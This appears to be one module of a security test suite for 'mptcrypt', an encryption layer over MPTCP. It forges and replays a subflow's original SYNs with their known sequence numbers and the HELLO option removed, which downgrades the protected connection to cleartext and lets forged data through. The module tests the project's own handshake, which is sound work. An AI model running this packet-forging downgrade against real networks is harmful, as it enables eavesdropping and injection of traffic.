"""Attack 9 (mptcrypt-specific), SYN replay: the subflow's own SYNs again, mptcrypt option removed.

Not a published MPTCP attack: it targets mptcrypt's state (issue 12 item 1). The SYN-desync fix (attack 8) drops a
SYN on a live protected flow only when its ISN is new; this attacker replays the subflow's ORIGINAL SYN (the
client's ISN, MP_CAPABLE, no HELLO) to the server and a SYN with the server's ISN to the client. A daemon that
takes a SYN with the known ISN for its peer's retransmission, and the missing HELLO for "the peer has no
mptcrypt", replaces the keyed flow with a plain one: the connection continues in clear, and forged RSTs and data
would be accepted. Against plain MPTCP the kernel answers both with a challenge ACK (RFC 5961 §4).

Effect measured (as attack 8): application records readable in plaintext on path 1 after the replay, and bytes
delivered to an application that are not the sender's (sha256 changed).
"""

from __future__ import annotations

import time

from mptcrypt.attacks import syn_desync
from mptcrypt.attacks.common import SYN, forge, mptcp_opt
from mptcrypt.wire.mptcp import MptcpOption

NUMBER = 9
TITLE = "replayed SYN without HELLO (same ISN) on the live subflow"
SOURCE = "issue 12 item 1 (mptcrypt's own handshake: SYNs are not MACed)"
PLAIN_EXPECTED = "BLOCKED"  # harmless to plain MPTCP by design (the kernel's RFC 5961 check)


def attack(agent) -> dict:
    v = agent.view
    if v.cport is None or v.c2s.isn is None or v.s2c.isn is None:
        return {"skipped": "no connection (or its SYNs were not seen)"}
    before = {k: len(s) for k, s in v.records.items()}
    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7), mptcp_opt(MptcpOption.mpc_syn())]

    def to_server():  # the client's SYN as it left the client's kernel, before its daemon added HELLO
        return forge(v, v.client, v.server, v.cport, v.port, v.c2s.isn, 0, SYN, opts, window=64240)

    def to_client():
        return forge(v, v.server, v.client, v.port, v.cport, v.s2c.isn, 0, SYN, opts, window=64240)

    agent.spoof(to_server, to_client, "the subflow's SYNs replayed with their ISNs, HELLO removed")
    agent.pump(time.time() + 0.2)
    agent.records_before = before
    return {"records_seen_before_attack": before, "isn_client": v.c2s.isn, "isn_server": v.s2c.isn}


after = syn_desync.after  # the same effect, judged the same way
judge = syn_desync.judge
